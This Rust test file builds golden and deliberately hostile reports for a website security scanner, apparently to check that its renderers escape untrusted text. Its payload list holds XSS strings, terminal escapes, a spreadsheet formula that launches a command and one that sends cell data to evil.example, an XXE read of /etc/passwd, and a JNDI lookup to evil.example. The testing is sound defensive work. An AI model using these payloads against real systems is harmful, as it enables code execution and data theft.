//! The golden report: what renderers are tested on. Judged from the stored observations of the fictional province by
//! the built-in rules, with a past made up here. `UPDATE=1 cargo test` writes tests/data/golden/report.json anew.

use std::{collections::BTreeSet, fs, path::Path, sync::Arc};

use khien::{
    observation::{Document, Vantage},
    report::{
        FindingCard, Past, PastCard, PreviousRun, Report, Roster, RuleBook, Run, Scanner, SiteCard,
        TrendPoint, assemble, judge,
    },
    rule::{Evidence, Reason, RuleId, RuleSet, Verdict},
    score::Method,
    target,
    yaml::Source,
};

const FOLDER: &str = "tests/data/golden";

/// The golden report.
pub(crate) fn report() -> Report {
    serde_json::from_str(&fs::read_to_string(Path::new(FOLDER).join("report.json")).unwrap()).unwrap()
}

/// The golden report reduced to four units that show all there is to show: a site that is excluded, a port of its own, a
/// site that could not be tested, a unit without a site; a failure that is waived, one that is upcoming, a verdict of an
/// earlier time. With the rules that failed there, and two that hold.
pub(crate) fn small() -> Report {
    let mut report = report();
    report
        .units
        .retain(|unit| ["so-khcn", "bv-da-khoa", "so-xay-dung", "xa-phu-mau"].contains(&unit.id.as_str()));
    let failed: BTreeSet<RuleId> = findings(&report)
        .filter(|card| {
            card.finding.verdict == Verdict::Fail || card.finding.rule.as_str().starts_with("dns-caa")
        })
        .map(|card| card.finding.rule.clone())
        .collect();
    let known = |rule: &RuleId| failed.contains(rule);
    report.rules.retain(|rule| known(&rule.id));
    for site in report.units.iter_mut().flat_map(|unit| &mut unit.sites) {
        change(site, |cards| cards.retain(|card| known(&card.finding.rule)));
    }
    let left: BTreeSet<String> = report.units.iter().map(|unit| unit.id.clone()).collect();
    report.causes.retain(|cause| cause.units.iter().any(|unit| left.contains(unit)));
    let failures = findings(&report).filter(|card| card.finding.verdict == Verdict::Fail).count();
    let mut place = 0;
    change_all(&mut report, |card| {
        if card.finding.verdict == Verdict::Fail {
            let finding = Arc::make_mut(&mut card.finding);
            if place == 0 {
                finding.waived = true;
            } else if place == 1 {
                finding.upcoming = true;
            } else if place + 1 == failures {
                finding.as_of = Some("2026-11-20T19:00:00Z".parse().unwrap());
                finding.reason = Some(Reason::TimedOut);
            }
            place += 1;
        }
    });
    report
}

/// Changes the findings of a site.
pub(crate) fn change(site: &mut SiteCard, change: impl FnOnce(&mut Vec<FindingCard>)) {
    let mut cards = site.findings.iter().collect();
    change(&mut cards);
    site.findings = cards.into();
}

/// Changes every finding of a report.
pub(crate) fn change_all(report: &mut Report, mut each: impl FnMut(&mut FindingCard)) {
    for site in report.units.iter_mut().flat_map(|unit| &mut unit.sites) {
        change(site, |cards| cards.iter_mut().for_each(&mut each));
    }
}

fn findings(report: &Report) -> impl Iterator<Item = FindingCard> {
    report.units.iter().flat_map(|unit| &unit.sites).flat_map(|site| &site.findings)
}

/// What a hostile site or a careless inventory may put wherever it is asked for a text.
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [
        "<script>alert(1)</script>",
        "</script></style></textarea><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)\" x=\"' autofocus onfocus='alert(1)",
        "javascript:alert(1)//",
        "\u{1b}[2J\u{1b}[31mred\u{1b}[0m\u{9b}31m\u{7}",
        "\u{1b}]8;;https://evil.example/\u{1b}\\\\click\u{1b}]8;;\u{1b}\\\\\u{1b}]0;title\u{7}",
        "\u{202e}txt.exe\u{202c}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
        "zero\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}width\u{ad}\u{180e}\u{e0001}",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r\n=1+1",
        " =1+1",
        "\"=1+1",
        "'=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}SUM(1)",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "line one\r\nSet-Cookie: x\n\tindented\u{2028}separator\u{2029}paragraph\u{85}next",
        "nul \u{0} bell \u{7} backspace \u{8} delete \u{7f} apc \u{9f}",
        "not a character \u{fffe} \u{ffff} \u{1fffe} \u{fdd0} replacement \u{fffd}",
        "\\ud800 \\u0000 %00 %0d%0a",
        "]]><![CDATA[<x/>]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;&#0;&#x0;</x>",
        "-->--!>--><?php echo 1 ?>",
        "[click](https://evil.example/) ![x](https://evil.example/x.png) <https://evil.example/>",
        "`code` **bold** # heading | table | {0} {1} {{2}} {",
        "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{7*7}",
        "\"quotes\" 'single' `back` «guillemets» \\backslash\\",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}algo",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f1fb}\u{1f1f3}",
        "",
        " ",
    ]
    .map(str::to_owned)
    .into();
    all.push("long ".repeat(2_000));
    all.push("W".repeat(10_000));
    all.push("=".repeat(10_000));
    all.push(format!("a{}", "\u{301}".repeat(10_000)));
    all
}

/// The small report with [`payloads`] wherever a text comes from the network or the inventory.
pub(crate) fn hostile() -> Report {
    let all = payloads();
    let mut at = 0;
    let mut next = move || {
        at += 1;
        all[at % all.len()].clone()
    };
    let mut report = small();
    report.province = next();
    report.lead_agency = next();
    report.run.vantage.name = next();
    if let Some(authorisation) = &mut report.authorisation {
        authorisation.document = next();
        authorisation.number = next();
        authorisation.body = next();
    }
    for cause in &mut report.causes {
        cause.value = next();
        cause.sites.iter_mut().for_each(|site| *site = next());
    }
    for unit in &mut report.units {
        unit.name = next();
        if let Some(worst) = &mut unit.worst_site {
            worst.host = next();
        }
        for group in &mut unit.groups {
            group.name = next();
            group.sites.iter_mut().for_each(|site| *site = next());
        }
        for step in &mut unit.fix_plan {
            step.name = next();
            step.rules.iter_mut().flat_map(|rule| &mut rule.sites).for_each(|site| *site = next());
        }
        for site in &mut unit.sites {
            site.server = Some(next());
            site.addresses = vec![next(), next(), next()];
        }
    }
    // every one as a host, so that no format depends on the checks of the inventory, with a failure to show there
    let unit = report.units.iter_mut().find(|unit| unit.id == "bv-da-khoa").unwrap();
    let failed = |card: &FindingCard| card.finding.verdict == Verdict::Fail;
    let model =
        unit.sites.iter().find(|site| site.findings.iter().any(|card| failed(&card))).unwrap().clone();
    for payload in payloads() {
        let mut site = model.clone();
        site.host = payload;
        change(&mut site, |cards| {
            cards.retain(failed);
            cards.truncate(1);
        });
        unit.sites.push(site);
    }
    // and every one as evidence: alone, in a list, as a key; beside an address
    let all = payloads();
    let mut place = 0;
    change_all(&mut report, |card| {
        if matches!(card.finding.verdict, Verdict::Fail | Verdict::Inconclusive) {
            let seen = |value| Evidence { fact: "http.server".to_owned(), value, address: None };
            Arc::make_mut(&mut card.finding).evidence.clear();
            // fewer cards than payloads: each has two
            for text in [&all[place % all.len()], &all[(place + 1) % all.len()]] {
                let map = serde_json::Map::from_iter([(text.clone(), text.clone().into())]);
                let first = Evidence { address: Some(text.clone()), ..seen(text.clone().into()) };
                let list = seen(vec![text.clone(), text.clone()].into());
                Arc::make_mut(&mut card.finding).evidence.extend([first, list, seen(map.into())]);
            }
            place += 2;
        }
    });
    assert!(place >= all.len(), "not every payload was used: {place} of {}", all.len());
    report
}

/// Compares what a renderer wrote with what stands in the golden folder; `UPDATE=1` writes it anew.
pub(crate) fn compare(name: &str, rendered: &str) {
    let path = Path::new(FOLDER).join(name);
    if std::env::var_os("UPDATE").is_some() {
        fs::write(&path, rendered).unwrap();
        return;
    }
    let stored = fs::read_to_string(&path).unwrap_or_default();
    assert!(
        stored == rendered,
        "{} is stale: run UPDATE=1 cargo test, look at the change, commit it",
        path.display()
    );
}

#[test]
fn the_golden_report_is_what_the_rules_make_of_the_golden_observations() {
    let rules = RuleSet::built_in().unwrap();
    let text = fs::read_to_string(Path::new(FOLDER).join("observations.jsonl")).unwrap();
    let sites = text
        .lines()
        .map(|line| judge(&rules, &Document::parse(line.as_bytes()).unwrap()))
        .collect::<Vec<_>>();
    let inventory = fs::read_to_string("targets.example.yaml").unwrap();
    let inventory = target::load(&Source::new("targets.example.yaml", inventory)).unwrap().inventory;
    let started_at = "2026-11-23T19:00:00Z".parse().unwrap();
    let run = Run {
        id: "20261123T190000Z".to_owned(),
        started_at,
        finished_at: "2026-11-23T19:41:00Z".parse().unwrap(),
        vantage: Vantage { name: inventory.vantage.name.clone(), inside: inventory.vantage.inside },
        scanner: Scanner { name: "khien".to_owned(), version: "0.0.0".to_owned() },
        degraded: false,
        complete: true,
    };
    let book = RuleBook::of(&rules, None);
    let roster = Roster::new(&inventory, started_at);
    let mut report = assemble(sites, &roster, &book, &Method::built_in().unwrap(), run).unwrap();
    // the hash changes with every comma of a rule; it is not what renderers are tested for
    report.method.rules_hash = "7f3a91c2".repeat(8);
    let past = past(&report);
    report.recall(past);
    // when a finding was first seen is the store's to say
    for site in report.units.iter_mut().flat_map(|unit| &mut unit.sites) {
        change(site, |cards| {
            for (place, card) in cards.iter_mut().enumerate() {
                if card.finding.verdict == Verdict::Fail {
                    let day = if place % 3 == 0 { "2026-11-23T19:00:00Z" } else { "2026-11-09T19:00:00Z" };
                    Arc::make_mut(&mut card.finding).first_seen = Some(day.parse().unwrap());
                }
            }
        });
    }
    compare("report.json", &(serde_json::to_string_pretty(&report).unwrap() + "\n"));
}

/// Eight nights before, each unit a little off today's score; the rules changed after the third.
fn past(report: &Report) -> Past {
    let week = |n: usize| format!("202610{:02}T190000Z", n + 1);
    let mut cards = Vec::new();
    for (place, unit) in report.units.iter().enumerate() {
        for n in 0..8 {
            let drift = u8::try_from((place * 5 + n * 3) % 7).unwrap();
            let score = unit.score.map(|score| (score + drift).saturating_sub(4).min(100));
            cards.push(PastCard {
                unit: unit.id.clone(),
                block: unit.block,
                ranked: unit.rank.is_some(),
                point: TrendPoint {
                    run: week(n),
                    at: format!("2026-10-{:02}T19:00:00Z", n + 1).parse().unwrap(),
                    score,
                    grade: unit.grade.clone(),
                    same_rules: n >= 3,
                },
            });
        }
    }
    let previous = PreviousRun {
        id: week(7),
        started_at: "2026-10-08T19:00:00Z".parse().unwrap(),
        comparable: true,
        same_rules: true,
        fixed: 31,
        new: 9,
        recurred: 2,
    };
    Past { previous: Some(previous), cards }
}
